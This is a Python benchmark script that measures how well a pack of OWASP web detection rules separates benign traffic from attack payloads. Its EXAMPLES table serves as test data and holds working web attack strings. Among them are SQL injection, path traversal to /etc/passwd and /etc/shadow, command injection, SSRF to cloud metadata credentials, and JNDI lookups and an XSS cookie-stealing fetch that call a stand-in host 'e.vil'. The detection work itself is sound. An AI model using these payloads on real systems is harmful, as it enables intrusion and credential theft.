#!/usr/bin/env python3
"""False-positive rate and recall of the OWASP web rule pack (rules/web), per rule.

Why this exists: a web rule that fires on ordinary traffic buries the analyst, and one that never
fires on real payloads is decoration. Every rule is checked against benign requests (false
positives) and attack payloads (recall) before it ships; the tables go into bench/README-rules.md.

Rules are evaluated from their YAML by the small Sigma evaluator in bench/ioc_quality.py (not by
the Rust engine), on events with the field mapping the goshawk wrapper uses: cs-uri-query = the
request target AS LOGGED (path + query; CSIC logs the absolute form http://localhost:8080/...),
cs-uri-stem = the path, c-uri-query = the query, cs-method, sc-status, cs-user-agent and
c-useragent, cs-referer, cs-host. Values are not decoded.

Benign (false positives):
- CSIC 2010 normalTrafficTraining (36,000 requests): the URI as logged; and, as a stress test,
  URI + "?"/"&" + POST body (the wrapper does not put bodies in cs-uri-query, so this is pessimistic);
- access_logs/elastic_apache (7,913 real lines, mostly benign; contains a few scans);
- http_params `norm` rows (13,538 CSIC parameter values), each as /p?v=<value percent-encoded>.
Attacks (recall):
- web_payloads/payloads_index.csv, per category, each payload put in a query string three ways:
  `raw` (/p?v=<payload> as is), `pct` (percent-encoded like a browser form: urllib.parse.quote,
  safe="/"), `plus` (quote_plus, spaces as +). The lists contain fragments and comments (e.g.
  bare command names), so 100 % is not reachable; the figures are for comparing rules;
- http_params attack rows (sqli/xss/cmdi/path-traversal), percent-encoded;
- web_payloads/fsecurify badqueries (URL path+query from scanner/exploit logs, as logged);
- access_logs/ocatak_scanners acunetix.txt and netsparker.txt (whole scanner sessions: many lines
  are plain crawling, so this is a hit rate, not a recall).
Simulated (only with --goshawk BIN): `goshawk generate web --rows 50000 --seed 7` (goshawk-sim's
labelled OWASP traffic, with its evasions: double/triple and %uXXXX encodings, per-character
hex, mixed case): benign false positives and recall per attack type, URI and URI + body.

    python3 bench/web_rules_quality.py [--limit N] [--markdown bench/README-rules.md] [--show-fp N]
        [--goshawk target/release/goshawk]   # + simulated traffic, + agreement with `goshawk rules test`
        [--engine-check BIN]                 # + (event, rule) agreement with rsigma and its throughput
"""

import argparse
import csv
import gzip
import json
import subprocess
import tempfile
import re
import sys
import time
from collections import defaultdict
from pathlib import Path
from urllib.parse import quote, quote_plus, urlsplit

sys.path.insert(0, str(Path(__file__).resolve().parent))
from ioc_quality import DATA, REPO, load_rules, schema_problems  # noqa: E402

WEB_RULES = REPO / "rules" / "web"
CSIC_NORMAL = DATA / "csic2010" / "normalTrafficTraining.txt.gz"
CSIC_ANOMALOUS = DATA / "csic2010" / "anomalousTrafficTest.shared.txt.gz"
ELASTIC = DATA / "access_logs" / "elastic_apache" / "apache_logs.shared.log"
SCANNERS = [DATA / "access_logs" / "ocatak_scanners" / n for n in ("acunetix.txt", "netsparker.txt")]
PAYLOADS = DATA / "web_payloads" / "payloads_index.csv"
BADQUERIES = DATA / "web_payloads" / "fsecurify" / "badqueries.shared.txt.gz"
HTTP_PARAMS = DATA / "http_params" / "payload_full.shared.csv"

# Which payload categories each rule family is meant to catch (rule file stem prefix -> categories).
FAMILY_CATEGORIES = {
    "web_sqli_": {"sqli"},
    "web_xss_": {"xss"},
    "web_path_traversal_": {"path_traversal", "lfi"},
    "web_lfi_": {"lfi", "path_traversal"},
    "web_cmdi_": {"cmdi"},
    "web_ssti_": {"ssti"},
    "web_ssi_": {"ssi"},
    "web_xxe_": {"xxe"},
    "web_ssrf_": {"ssrf"},
    "web_nosqli_": {"nosqli"},
    "web_ldap_": {"ldap"},
    "web_crlf_": {"crlf"},
}
# Hand-written requests, as an access log would show them, that each rule must catch (rules with no
# matching public corpus - JNDI, metadata, admin export, scanner user agents - are covered here).
EXAMPLES = {
    "web_sqli_union_select": ["/item.php?id=-1%20UNION%20ALL%20SELECT%201,2,concat(user,0x3a,password)%20FROM%20users--", "/p?id=1'+union+select+null,version()--+-"],
    "web_sqli_tautology": ["/login?user=admin%27%20or%20%271%27%3D%271&pass=x", "/p?id=1+or+1=1"],
    "web_sqli_time_based": ["/p?id=1%27%20AND%20SLEEP(5)--%20-", "/p?id=1;WAITFOR%20DELAY%20%270:0:5%27--"],
    "web_sqli_schema_fingerprint": ["/p?id=1%20and%20(select%20count(*)%20from%20information_schema.tables)>0", "/p?q=@@version"],
    "web_sqli_stacked_query_comment": ["/p?id=1;DROP%20TABLE%20users", "/p?name=admin%27--%20"],
    "web_xss_script_tag": ["/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/search?q=<script>alert(document.cookie)</script>"],
    "web_xss_html_tag_injection": ["/search?q=%3Csvg/onload=alert(1)%3E", "/p?x=%3Cimg%20src=x%20onerror=alert(1)%3E"],
    "web_xss_event_handler": ["/p?x=%22%20onmouseover=%22alert(1)", "/p?x=%3Cbody%20onload%3Dalert(1)%3E"],
    "web_xss_js_uri_dom_sink": ["/redirect?url=javascript:alert(1)", "/p?x=%22%3E%3Cimg%20src=x%20onerror=fetch(%27//e.vil/%27%2Bdocument.cookie)%3E"],
    "web_path_traversal_sequence": ["/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fwindows/win.ini", "/p?f=%2e%2e%2f%2e%2e%2fboot.ini"],
    "web_path_traversal_sensitive_file": ["/p?file=/etc/passwd", "/p?page=....//....//etc/shadow", "/p?f=C:%5cWindows%5cwin.ini"],
    "web_lfi_wrapper_null_byte": ["/index.php?page=php://filter/convert.base64-encode/resource=index.php", "/p?page=../../etc/passwd%00.jpg"],
    "web_cmdi_shell_metachar_command": ["/ping?host=127.0.0.1;cat%20/etc/passwd", "/p?ip=8.8.8.8%7Cwhoami", "/p?x=$(id)", "/p?x=%60uname%20-a%60"],
    "web_ssti_template_expression": ["/hello?name={{7*7}}", "/p?x=%24%7B7*7%7D", "/p?x={{%27%27.__class__.__mro__[1].__subclasses__()}}"],
    "web_ssi_injection": ["/p?x=%3C!--%23exec%20cmd=%22id%22%20--%3E"],
    "web_xxe_entity_declaration": ["/p?xml=%3C!DOCTYPE%20foo%20[%3C!ENTITY%20xxe%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E"],
    "web_ssrf_cloud_metadata": ["/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "/p?u=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F"],
    "web_ssrf_internal_target_or_scheme": ["/fetch?url=http://localhost:8080/admin", "/p?u=file:///etc/passwd", "/p?u=gopher://127.0.0.1:6379/_INFO", "/p?u=http%3A%2F%2F127.0.0.1%2F"],
    "web_nosqli_operator": ["/login?user=admin&password[$ne]=x", "/p?q=%7B%22%24gt%22%3A%22%22%7D"],
    "web_ldap_injection": ["/p?user=*)(uid=*))(|(uid=*", "/p?user=admin)(%7C(password=*)"],
    "web_jndi_lookup": ["/p?x=${jndi:ldap://e.vil/a}", "/p?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.vil%2Fa%7D", "/p?x=${${lower:j}ndi:ldap://e.vil/a}"],
    "web_sensitive_vcs_config_secrets": ["/.git/config", "/.env", "/wp-config.php", "/app/.aws/credentials"],
    "web_sensitive_backup_dump_file": ["/index.php.bak", "/backup.zip", "/db.sql", "/config.php~"],
    "web_sensitive_admin_data_export": ["/api/admin/export?table=credit_cards", "/admin/export?format=csv&table=users"],
    "web_crlf_header_injection": ["/p?x=%0d%0aSet-Cookie:%20session=evil", "/redirect?to=%0d%0aLocation:%20http://e.vil"],
    "web_scanner_fingerprint_in_uri": ["/p?x=acunetix_wvs_security_test", "/nmaplowercheck1700000000"],
}
# User agents the scanner rules must catch (the request itself is benign).
EXAMPLE_USER_AGENTS = {
    "web_scanner_attack_tool_user_agent": ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"],
    "web_generic_http_client_user_agent": ["curl/8.5.0", "python-requests/2.31.0", "Wget/1.21.4"],
    "web_jndi_lookup": ["${jndi:ldap://e.vil/a}"],
}

# Ordinary requests that look a little like attacks; no rule may fire on them.
NEGATIVE_EXAMPLES = [
    "/search?q=union+station+select+menu", "/profile?name=O%27Brien&city=Dublin", "/search?q=select+a+car+from+our+range",
    "/p?session=abc&option=1&conversion_type=2", "/mail?tpl=Hello+{{first_name}}", "/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
    "/shop?sort=price&order=asc", "/p?next=https%3A%2F%2Fexample.com%2Faccount", "/img/logo.png", "/p?email=a%40b.com",
    "/search?q=sleep+apnea+treatment", "/search?q=rock+%26+roll", "/search?q=cat+food", "/docs/config.html",
    "/api/v1/users?id=10&fields=name,email", "/p?price=10-20&rating=4", "/download/report-2024.pdf", "/p?q=1%2B1%3D2",
    "/p?q=C%23+tutorial", "/search?q=what+is+an+%3Cinput%3E+tag", "/blog/2015/05/whoami-command-explained",
    "/p?redirect=/home", "/p?q=javascript+tutorial", "/p?version=10.0.0.1", "/p?lang=en&id=1#top",
    "/export/report.csv", "/p?q=password+reset", "/wp-content/themes/x/style.css?ver=4.2.2",
    "/presentations/logstash-monitorama-2013/plugin/zoom-js/zoom.js", "/p?q=%22quoted+text%22+or+other",
]

HTTP_PARAMS_CATEGORY = {"sqli": "sqli", "xss": "xss", "cmdi": "cmdi", "path-traversal": "path_traversal"}

REQUEST_LINE = re.compile(rb"^(GET|POST|PUT|DELETE|HEAD|OPTIONS|PATCH) (\S+) (HTTP/\d\.\d)\r?$")
COMBINED = re.compile(r'^"?(\S+) \S+ (\S+) \[[^\]]*\] "(\S+) (.*?)(?: (HTTP/[\d.]+))?" (\d{3}|-) (\S+)(?: "(.*?)" "(.*)")?"?\s*$')


def event(method, target, ua="", referer="", status=None, host="", raw=""):
    """The Sigma fields of one request, as the goshawk wrapper maps them."""
    parts = urlsplit(target) if target.startswith(("http://", "https://")) else None
    path_query = target
    if parts is not None:
        # A target such as `http://localhost:8080.Inc` has no path: the stem is the target itself.
        stem, query = parts.path or target.partition("?")[0], parts.query
    else:
        stem, _, query = target.partition("?")
    return {
        "cs-method": method,
        "cs-uri-query": path_query,
        "cs-uri": path_query,
        "c-uri": path_query,
        "cs-uri-stem": stem,
        "c-uri-path": stem,
        "c-uri-query": query,
        "cs-user-agent": ua,
        "c-useragent": ua,
        "cs-referer": referer,
        "sc-status": status,
        "cs-host": host,
        "_raw": raw or target,
    }


def csic_requests(path, limit=None):
    """(event for URI only, event for URI + body) per CSIC request."""
    with gzip.open(path, "rb") as f:
        lines = f.read().split(b"\n")
    out, i = [], 0
    while i < len(lines):
        m = REQUEST_LINE.match(lines[i])
        if not m:
            i += 1
            continue
        method, target = m.group(1).decode(), m.group(2).decode("latin-1")
        headers, i = {}, i + 1
        while i < len(lines) and lines[i].strip(b"\r"):
            k, _, v = lines[i].decode("latin-1").partition(":")
            headers[k.strip().lower()] = v.strip()
            i += 1
        body = ""
        i += 1
        if i < len(lines) and lines[i].strip(b"\r") and not REQUEST_LINE.match(lines[i]):
            body = lines[i].decode("latin-1").strip("\r")
            i += 1
        ua, host = headers.get("user-agent", ""), headers.get("host", "")
        with_body = target + (("&" if "?" in target else "?") + body if body else "")
        out.append((event(method, target, ua, host=host), event(method, with_body, ua, host=host)))
        if limit and len(out) >= limit:
            break
    return out


def access_log_events(path, limit=None):
    out = []
    with open(path, encoding="latin-1") as f:
        for number, line in enumerate(f, 1):
            line = line.rstrip("\n")
            m = COMBINED.match(line)
            if not m:
                continue
            status = None if m.group(6) == "-" else int(m.group(6))
            out.append(event(m.group(3), m.group(4), m.group(9) or "", m.group(8) or "", status, raw=line))
            out[-1]["_line"] = number
            if limit and len(out) >= limit:
                break
    return out


def payload_events(limit=None):
    """{category: {form: [events]}} from payloads_index.csv."""
    by_cat = defaultdict(list)
    with open(PAYLOADS, encoding="utf-8", errors="replace", newline="") as f:
        for row in csv.DictReader(f):
            p = row["payload"]
            if p.strip():
                by_cat[row["category"]].append(p)
    out = {}
    for cat, payloads in by_cat.items():
        if limit:
            payloads = payloads[:limit]
        out[cat] = {
            "raw": [event("GET", "/p?v=" + p) for p in payloads],
            "pct": [event("GET", "/p?v=" + quote(p, safe="/")) for p in payloads],
            "plus": [event("GET", "/p?v=" + quote_plus(p)) for p in payloads],
        }
    return out


def http_params_events(limit=None):
    benign, attacks = [], defaultdict(list)
    with open(HTTP_PARAMS, encoding="utf-8", errors="replace", newline="") as f:
        for row in csv.DictReader(f):
            ev = event("GET", "/p?v=" + quote(row["payload"], safe="/"))
            if row["attack_type"] == "norm":
                benign.append(ev)
            elif row["attack_type"] in HTTP_PARAMS_CATEGORY:
                attacks[HTTP_PARAMS_CATEGORY[row["attack_type"]]].append(ev)
    if limit:
        benign = benign[:limit]
        attacks = {k: v[:limit] for k, v in attacks.items()}
    return benign, attacks


def badquery_events(limit=None):
    with gzip.open(BADQUERIES, "rt", encoding="utf-8", errors="replace") as f:
        lines = [l.rstrip("\n") for l in f if l.strip()]
    if limit:
        lines = lines[:limit]
    return [event("GET", l if l.startswith("/") else "/" + l) for l in lines]


def engine_agreement(binary, rules_dir, rules, named_sets, hits):
    """Run an independent Sigma engine over the same events and count (event, rule) disagreements.

    `binary RULES_DIR` reads JSON Lines events on stdin and prints `index<TAB>id1,id2,...` per event
    (the rsigma 0.23 checker in bench/README-rules.md does). Returns (events, pairs agreeing, pairs,
    examples of disagreements)."""
    id_of = {r.name: str(r.id) for r in rules}
    events, expected = [], []
    for set_name, evs in named_sets:
        for k, e in enumerate(evs):
            events.append({key: v for key, v in e.items() if v is not None and not key.startswith("_")})
            expected.append(({id_of[r.name] for r in rules if hits[(r.name, set_name)][k]}, set_name, e["cs-uri-query"]))
    with tempfile.NamedTemporaryFile("w", suffix=".jsonl", delete=False) as f:
        for e in events:
            f.write(json.dumps(e) + "\n")
        path = f.name
    with open(path) as stdin:
        out = subprocess.run([binary, str(rules_dir)], stdin=stdin, capture_output=True, text=True, check=True)
    got = {}
    for line in out.stdout.splitlines():
        i, _, ids = line.partition("\t")
        got[int(i)] = set(filter(None, ids.split(",")))
    agree, diffs = 0, []
    for i, (exp, set_name, uri) in enumerate(expected):
        mine = got.get(i, set())
        agree += len(id_of) - len(exp ^ mine)
        if exp != mine and len(diffs) < 20:
            name_of = {v: k for k, v in id_of.items()}
            diffs.append(f"{set_name}: {uri[:120]} python-only={[name_of[x] for x in exp - mine]} engine-only={[name_of.get(x, x) for x in mine - exp]}")
    return len(events), agree, len(events) * len(id_of), diffs, out.stderr.strip()


def goshawk_agreement(binary, rules, named_inputs):
    """`goshawk rules test rules/web FILE` against this evaluator on the same files: identical
    (record, rule) hit sets? Access logs are keyed by line number, CSIC files by request index."""
    id_of = {r.name: str(r.id) for r in rules}
    lines = ["| input | records | hits (this script) | hits (goshawk rules test) | (record, rule) pairs that differ |", "|---|---|---|---|---|"]
    for label, path, events, key in named_inputs:
        out = subprocess.run([binary, "rules", "test", str(WEB_RULES), str(path)], capture_output=True, text=True, check=True)
        theirs = set()
        for line in out.stdout.splitlines():
            o = json.loads(line)
            theirs.add((o["line"] if key == "line" else o["index"], o["rule_id"]))
        mine = set()
        for i, e in enumerate(events):
            k = e["_line"] if key == "line" else i
            mine.update((k, id_of[r.name]) for r in rules if r.match(e))
        lines.append(f"| {label} | {len(events)} | {len(mine)} | {len(theirs)} | {len(mine ^ theirs)} |")
    return lines


def simulated_traffic_table(binary, rules):
    out_csv = REPO / "bench" / "out" / "rules_generated.csv"
    out_csv.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run([binary, "generate", "web", "--rows", "50000", "--seed", "7", "--out", str(out_csv)], check=True, capture_output=True)
    with open(out_csv, newline="") as f:
        rows = list(csv.DictReader(f))
    fp_uri, fp_body, n_benign = defaultdict(int), defaultdict(int), 0
    recall = defaultdict(lambda: [0, 0, 0])
    for row in rows:
        target = row["url"]
        with_body = target + (("&" if "?" in target else "?") + row["body"] if row["body"] else "")
        e_uri, e_body = event(row["method"], target), event(row["method"], with_body)
        hit_uri = [r.name for r in rules if r.match(e_uri)]
        hit_body = hit_uri + [r.name for r in rules if r.name not in hit_uri and r.match(e_body)]
        if row["label"] == "normal":
            n_benign += 1
            for n in hit_uri:
                fp_uri[n] += 1
            for n in hit_body:
                fp_body[n] += 1
        else:
            c = recall[row["attack_type"]]
            c[0] += 1
            c[1] += bool(hit_uri)
            c[2] += bool(hit_body)
    lines = [f"Simulated traffic (`goshawk generate web --rows 50000 --seed 7`): {n_benign} benign requests; rules hit on the URI: "
             + (", ".join(f"{k} {v}" for k, v in sorted(fp_uri.items())) or "none")
             + "; with the body appended: " + (", ".join(f"{k} {v}" for k, v in sorted(fp_body.items())) or "none") + ".",
             "", "| simulated attack type | requests | hit by any rule (URI) | hit by any rule (URI + body) |", "|---|---|---|---|"]
    for t, (n, k_uri, k_body) in sorted(recall.items()):
        lines.append(f"| {t} | {n} | {pct(k_uri, n)} | {pct(k_body, n)} |")
    return lines


def engine_throughput(binary, rules_dir, events, repeat=25, runs=3):
    """Single-core events/s of the checker over `events` x `repeat`: best of `runs`, minus the
    same run with no rules (JSON parsing and I/O), so the figure is the rules' own cost."""
    import time as _time

    with tempfile.TemporaryDirectory() as tmp:
        data = Path(tmp) / "events.jsonl"
        with open(data, "w") as f:
            for _ in range(repeat):
                for e in events:
                    f.write(json.dumps({k: v for k, v in e.items() if v is not None and not k.startswith("_")}) + "\n")
        empty = Path(tmp) / "no-rules"
        empty.mkdir()

        def best(directory):
            times = []
            for _ in range(runs):
                with open(data) as stdin:
                    t = _time.perf_counter()
                    subprocess.run([binary, str(directory)], stdin=stdin, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)
                    times.append(_time.perf_counter() - t)
            return min(times)

        base, with_rules = best(empty), best(rules_dir)
    n = len(events) * repeat
    return n, with_rules - base, n / max(with_rules - base, 1e-9)


def rate(rule, events):
    return sum(1 for e in events if rule.match(e)), len(events)


def pct(k, n):
    return f"{100.0 * k / n:.2f} %" if n else "n/a"


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--limit", type=int, help="first N items of every source (quick runs)")
    ap.add_argument("--markdown", help="write the tables (with the command) into this file")
    ap.add_argument("--show-fp", type=int, default=0, help="print up to N benign hits per rule")
    ap.add_argument("--goshawk", metavar="BIN", help="also measure on `BIN generate web --rows 50000 --seed 7` traffic")
    ap.add_argument("--engine-check", metavar="BIN", help="compare every (event, rule) verdict with an independent engine (see engine_agreement)")
    args = ap.parse_args()

    t0 = time.time()
    problems = schema_problems(WEB_RULES)
    rules = load_rules(WEB_RULES)
    csic = csic_requests(CSIC_NORMAL, args.limit)
    csic_uri = [a for a, _ in csic]
    csic_body = [b for _, b in csic]
    elastic = access_log_events(ELASTIC, args.limit)
    hp_benign, hp_attacks = http_params_events(args.limit)
    payloads = payload_events(args.limit)
    bad = badquery_events(args.limit)
    scanners = {p.stem: access_log_events(p, args.limit) for p in SCANNERS}
    print(f"loaded {len(rules)} rules; CSIC {len(csic)} req, elastic {len(elastic)} lines, http_params norm {len(hp_benign)}, "
          f"payload categories {len(payloads)}, badqueries {len(bad)}, scanners {[len(v) for v in scanners.values()]} "
          f"({time.time() - t0:.1f}s)", file=sys.stderr)

    csic_bad = csic_requests(CSIC_ANOMALOUS, args.limit)
    csic_bad_uri = [a for a, _ in csic_bad]
    csic_bad_body = [b for _, b in csic_bad]
    example_failures = []
    by_name = {r.name: r for r in rules}
    for name, uris in EXAMPLES.items():
        for u in uris:
            if name not in by_name or not by_name[name].match(event("GET", u)):
                example_failures.append(f"{name} missed {u}")
    for name, uas in EXAMPLE_USER_AGENTS.items():
        for ua in uas:
            if name not in by_name or not by_name[name].match(event("GET", "/", ua)):
                example_failures.append(f"{name} missed user agent {ua}")
    n_examples = sum(len(v) for v in EXAMPLES.values()) + sum(len(v) for v in EXAMPLE_USER_AGENTS.values())
    for u in NEGATIVE_EXAMPLES:
        fired = [r.name for r in rules if r.match(event("GET", u, "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"))]
        if fired:
            example_failures.append(f"{u} wrongly hit by {fired}")
    n_examples += len(NEGATIVE_EXAMPLES)
    uncovered = [r.name for r in rules if r.name not in EXAMPLES and r.name not in EXAMPLE_USER_AGENTS]

    benign_sets = [("CSIC URI", csic_uri), ("CSIC URI+body", csic_body), ("elastic access log", elastic), ("http_params norm", hp_benign)]
    hits = {}  # (rule, set name) -> bool list
    for r in rules:
        t = time.time()
        for name, evs in benign_sets:
            hits[(r.name, name)] = [r.match(e) for e in evs]
        for cat, forms in payloads.items():
            for form, evs in forms.items():
                hits[(r.name, f"{cat}/{form}")] = [r.match(e) for e in evs]
        for cat, evs in hp_attacks.items():
            hits[(r.name, f"http_params {cat}")] = [r.match(e) for e in evs]
        hits[(r.name, "badqueries")] = [r.match(e) for e in bad]
        hits[(r.name, "CSIC anomalous URI")] = [r.match(e) for e in csic_bad_uri]
        hits[(r.name, "CSIC anomalous URI+body")] = [r.match(e) for e in csic_bad_body]
        for s, evs in scanners.items():
            hits[(r.name, s)] = [r.match(e) for e in evs]
        print(f"  {r.name}: {time.time() - t:.1f}s", file=sys.stderr)
        if args.show_fp:
            for name, evs in benign_sets:
                shown = [e["cs-uri-query"][:160] + " | " + e["cs-user-agent"][:40] for e, h in zip(evs, hits[(r.name, name)]) if h]
                for s in shown[: args.show_fp]:
                    print(f"    FP {name}: {s}", file=sys.stderr)

    def any_hits(names, key):
        cols = [hits[(n, key)] for n in names]
        return [any(c) for c in zip(*cols)] if cols else []

    names = [r.name for r in rules]
    lines = []
    lines.append("| rule | level | FP CSIC URI | FP CSIC URI+body | FP elastic | FP http_params norm | recall own categories (pct / raw / plus) | badqueries | acunetix | netsparker |")
    lines.append("|---|---|---|---|---|---|---|---|---|---|")
    for r in rules:
        cats = set()
        for prefix, c in FAMILY_CATEGORIES.items():
            if r.name.startswith(prefix):
                cats = c
        fp = [pct(sum(hits[(r.name, n)]), len(hits[(r.name, n)])) + f" ({sum(hits[(r.name, n)])})" for n, _ in benign_sets]
        if cats:
            rec = []
            for form in ("pct", "raw", "plus"):
                k = sum(sum(hits[(r.name, f"{c}/{form}")]) for c in cats if c in payloads)
                n = sum(len(hits[(r.name, f"{c}/{form}")]) for c in cats if c in payloads)
                rec.append(pct(k, n))
            recall = f"{'+'.join(sorted(cats))}: " + " / ".join(rec)
        else:
            recall = "—"
        other = [pct(sum(hits[(r.name, k)]), len(hits[(r.name, k)])) for k in ("badqueries", "acunetix", "netsparker")]
        lines.append(f"| {r.name} | {r.level} | " + " | ".join(fp) + f" | {recall} | " + " | ".join(other) + " |")
    all_row = []
    for n, evs in benign_sets:
        h = any_hits(names, n)
        all_row.append(pct(sum(h), len(h)) + f" ({sum(h)})")
    other = [pct(sum(any_hits(names, k)), len(any_hits(names, k))) for k in ("badqueries", "acunetix", "netsparker")]
    lines.append("| **any rule** | | " + " | ".join(all_row) + " | see next table | " + " | ".join(other) + " |")
    alerting = [r.name for r in rules if r.level != "informational"]
    row = [pct(sum(any_hits(alerting, n)), len(any_hits(alerting, n))) + f" ({sum(any_hits(alerting, n))})" for n, _ in benign_sets]
    other = [pct(sum(any_hits(alerting, k)), len(any_hits(alerting, k))) for k in ("badqueries", "acunetix", "netsparker")]
    lines.append("| **any rule above informational** | | " + " | ".join(row) + " | | " + " | ".join(other) + " |")

    lines.append("")
    k1, k2 = sum(any_hits(names, "CSIC anomalous URI")), sum(any_hits(names, "CSIC anomalous URI+body"))
    lines.append(f"CSIC 2010 anomalous test requests ({len(csic_bad)}; many are malformed values, not attacks) hit by any rule: "
                 f"{pct(k1, len(csic_bad))} on the URI, {pct(k2, len(csic_bad))} with the POST body appended.")
    lines.append("")
    lines.append(f"Hand-written examples (bench/web_rules_quality.py EXAMPLES): {n_examples - len(example_failures)}/{n_examples} right (positives caught, negatives not hit)"
                 + (f"; wrong: {'; '.join(example_failures)}" if example_failures else "")
                 + (f"; rules without examples: {', '.join(uncovered)}" if uncovered else "") + ".")
    lines.append("")
    lines.append("Recall per payload category (share of payloads hit), by the rule family meant for it and by any rule:")
    lines.append("")
    lines.append("| category | payloads | family rules: pct / raw / plus | any rule: pct / raw / plus |")
    lines.append("|---|---|---|---|")
    for cat in sorted(payloads):
        fam = [n for n in names for prefix, c in FAMILY_CATEGORIES.items() if n.startswith(prefix) and cat in c]
        cells = []
        for group in (fam, names):
            if not group:
                cells.append("—")
                continue
            cells.append(" / ".join(pct(sum(any_hits(group, f"{cat}/{form}")), len(payloads[cat][form])) for form in ("pct", "raw", "plus")))
        lines.append(f"| {cat} | {len(payloads[cat]['raw'])} | {cells[0]} | {cells[1]} |")
    for cat in sorted(hp_attacks):
        fam = [n for n in names for prefix, c in FAMILY_CATEGORIES.items() if n.startswith(prefix) and cat in c]
        k = f"http_params {cat}"
        lines.append(f"| http_params {cat} (pct) | {len(hp_attacks[cat])} | {pct(sum(any_hits(fam, k)), len(hp_attacks[cat]))} | {pct(sum(any_hits(names, k)), len(hp_attacks[cat]))} |")

    if args.engine_check:
        named = [(n, evs) for n, evs in benign_sets] + [(f"{c}/{f}", evs) for c, forms in payloads.items() for f, evs in forms.items()]
        named += [("badqueries", bad), ("CSIC anomalous URI", csic_bad_uri), ("CSIC anomalous URI+body", csic_bad_body)]
        named += [(s, evs) for s, evs in scanners.items()]
        n_ev, agree, pairs, diffs, log = engine_agreement(args.engine_check, WEB_RULES, rules, named, hits)
        lines.append("")
        lines.append(f"Agreement with rsigma 0.23 (independent engine, same YAML, same events): {agree}/{pairs} (event, rule) verdicts "
                     f"identical over {n_ev} events ({100.0 * agree / pairs:.4f} %).")
        for d in diffs:
            print("  DIFF " + d, file=sys.stderr)
        n_tp, secs, rate_tp = engine_throughput(args.engine_check, WEB_RULES, elastic)
        lines.append(f"Throughput through the same checker (one core, best of 3, JSON parsing subtracted): {n_tp} Elastic log events "
                     f"(the log x 25) in {secs:.2f} s of rule time = {rate_tp:,.0f} events/s for the {len(rules)} rules.")
        if log:
            print("  engine: " + log[-2000:], file=sys.stderr)

    if args.goshawk:
        lines.extend(["", *simulated_traffic_table(args.goshawk, rules)])
        with tempfile.TemporaryDirectory() as tmp:
            inputs = [("elastic access log", ELASTIC, elastic, "line")]
            inputs += [(f"ocatak {p.stem}", p, scanners[p.stem], "line") for p in SCANNERS]
            for label, gz, evs in (("CSIC normal training", CSIC_NORMAL, csic_uri), ("CSIC anomalous test", CSIC_ANOMALOUS, csic_bad_uri)):
                plain = Path(tmp) / gz.name.replace(".gz", "")
                plain.write_bytes(gzip.open(gz).read())
                inputs.append((label, plain, evs, "index"))
            lines.extend(["", "Agreement with the goshawk binary itself (`goshawk rules test rules/web FILE`: rsigma behind goshawk's own readers and field mapping):", ""])
            lines.extend(goshawk_agreement(args.goshawk, rules, inputs))

    table = "\n".join(lines)
    print(table)
    if problems:
        print("\nschema problems:\n  " + "\n  ".join(problems))
    else:
        print("\nschema check: all rules valid against the Sigma JSON schema")
    print(f"total {time.time() - t0:.0f}s", file=sys.stderr)
    if args.markdown:
        path = Path(args.markdown)
        text = path.read_text() if path.exists() else ""
        start, end = "<!-- web-rules-table:start -->", "<!-- web-rules-table:end -->"
        block = f"{start}\n{table}\n{end}"
        if start in text and end in text:
            text = text[: text.index(start)] + block + text[text.index(end) + len(end):]
        else:
            text += "\n" + block + "\n"
        path.write_text(text)


if __name__ == "__main__":
    sys.exit(main())
